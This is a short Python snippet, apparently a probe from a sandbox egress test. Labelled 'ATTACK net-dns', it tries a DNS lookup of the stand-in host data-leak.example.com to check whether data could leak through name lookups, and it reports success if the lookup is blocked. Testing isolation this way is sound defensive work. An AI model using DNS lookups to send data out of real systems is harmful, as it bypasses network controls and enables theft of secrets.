# ATTACK net-dns: leak bits through name lookups.
import socket as _socket

try:
    _socket.getaddrinfo("data-leak.example.com", 443)
except OSError as _exc:
    raise SystemExit(f"ATTACK net-dns blocked: {_exc}")
